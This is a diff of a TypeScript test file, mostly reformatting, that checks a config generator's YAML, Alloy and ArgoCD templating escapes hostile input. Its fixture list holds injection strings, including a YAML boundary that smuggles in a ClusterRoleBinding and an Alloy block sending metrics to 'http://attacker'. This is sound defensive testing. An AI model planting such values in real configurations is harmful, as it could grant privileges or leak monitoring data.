@@ -19,7 +19,22 @@ const HOSTILE = [
   'pw\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding',
   'abc #comment: x',
   '{{ .server }} {{{raw}}} ${HOME} $${x}',
-  'yes', 'NO', 'on', '1:30', '2024-01-01', '0800', '~', 'null', '- item', '? key', '& anchor', '* alias', '!tag', '%directive', '@at', '`tick`',
+  'yes',
+  'NO',
+  'on',
+  '1:30',
+  '2024-01-01',
+  '0800',
+  '~',
+  'null',
+  '- item',
+  '? key',
+  '& anchor',
+  '* alias',
+  '!tag',
+  '%directive',
+  '@at',
+  '`tick`',
   '\u2028line\u2029sep \u202Ebidi \u0000nul \t tab \\ backslash',
   'x"\n}\nprometheus.remote_write "evil" {\n  endpoint { url = "http://attacker" }\n}\n//',
 ];
@@ -37,7 +52,10 @@ test('the yaml helper turns every hostile string into the same string after pars
 });
 
 test('the alloy helper keeps hostile strings inside one Alloy string literal', () => {
-  const t = createEngine().compile('prometheus.remote_write "x" {\n  endpoint {\n    url = {{{alloy v}}}\n  }\n}\n', { noEscape: true, strict: true });
+  const t = createEngine().compile('prometheus.remote_write "x" {\n  endpoint {\n    url = {{{alloy v}}}\n  }\n}\n', {
+    noEscape: true,
+    strict: true,
+  });
   for (const v of HOSTILE.filter((s) => !s.includes('\u0000'))) {
     const text = t({ v });
     assert.equal(checkAlloy(text), [], `structurally valid for ${JSON.stringify(v)}`);
@@ -70,9 +88,15 @@ test('literal {{ }} the output needs survive: ArgoCD goTemplate fields, alert an
 
 function hostileSpec(): string {
   let src = readFileSync(fromRoot('spec/fabric.yaml'), 'utf8');
-  src = src.replace('repoURL: https://github.com/you/fabric-gitops.git', `repoURL: "https://evil.example/a'b#c$d!e(f)*g;h=i&j%41--k/---/x?q=1#frag"`);
+  src = src.replace(
+    'repoURL: https://github.com/you/fabric-gitops.git',
+    `repoURL: "https://evil.example/a'b#c$d!e(f)*g;h=i&j%41--k/---/x?q=1#frag"`,
+  );
   src = src.replace('revision: main', 'revision: "feat/x---y"\n  path: "deploy/lab-1"');
-  src = src.replace('  prod-cluster:\n    role: member\n    environment: prod\n    ip: 192.168.200.12\n    cpus: 2\n    memory: 3g', `  prod-cluster:\n    role: member\n    environment: prod\n    provider: existing\n    ip: 192.168.200.12\n    context: "user@arn:aws:eks:eu/x---y"\n    server: "https://h.example:443/p'q#r$s---t"`);
+  src = src.replace(
+    '  prod-cluster:\n    role: member\n    environment: prod\n    ip: 192.168.200.12\n    cpus: 2\n    memory: 3g',
+    `  prod-cluster:\n    role: member\n    environment: prod\n    provider: existing\n    ip: 192.168.200.12\n    context: "user@arn:aws:eks:eu/x---y"\n    server: "https://h.example:443/p'q#r$s---t"`,
+  );
   return src;
 }
 
@@ -86,15 +110,24 @@ test('hostile strings that the schema admits come out as the same inert strings 
   const repoURL = "https://evil.example/a'b#c$d!e(f)*g;h=i&j%41--k/---/x?q=1#frag";
   const server = "https://h.example:443/p'q#r$s---t";
   const sources = docs.filter((d) => d.doc.kind === 'ApplicationSet').map((d) => d.doc.spec.template.spec.source);
-  assert.ok(sources.filter((s) => s.repoURL !== 'https://github.com/prometheus-operator/prometheus-operator.git').every((s) => s.repoURL === repoURL && s.targetRevision === 'feat/x---y'));
+  assert.ok(
+    sources
+      .filter((s) => s.repoURL !== 'https://github.com/prometheus-operator/prometheus-operator.git')
+      .every((s) => s.repoURL === repoURL && s.targetRevision === 'feat/x---y'),
+  );
   const projects = docs.filter((d) => d.doc.kind === 'AppProject');
   assert.ok(projects.every((p) => p.doc.spec.sourceRepos.includes(repoURL)));
   const prod = projects.find((p) => p.doc.metadata.name === 'env-prod')!.doc;
   assert.ok(prod.spec.destinations.every((d: any) => d.server === server));
-  assert.ok(sources.filter((s) => s.path.includes('components/')).every((s) => s.path.startsWith('deploy/lab-1/gitops/')));
+  assert.ok(
+    sources.filter((s) => s.path.includes('components/')).every((s) => s.path.startsWith('deploy/lab-1/gitops/')),
+  );
   // No document boundary or key smuggled in: every file is exactly the documents fabric meant.
   const kinds = docs.map((d) => d.doc.kind).filter(Boolean);
-  assert.not.ok(kinds.includes('ClusterRoleBinding') && docs.some((d) => d.doc.kind === 'ClusterRoleBinding' && !String(d.doc.metadata.name).startsWith('fabric-')));
+  assert.not.ok(
+    kinds.includes('ClusterRoleBinding') &&
+      docs.some((d) => d.doc.kind === 'ClusterRoleBinding' && !String(d.doc.metadata.name).startsWith('fabric-')),
+  );
 });
 
 test.run();
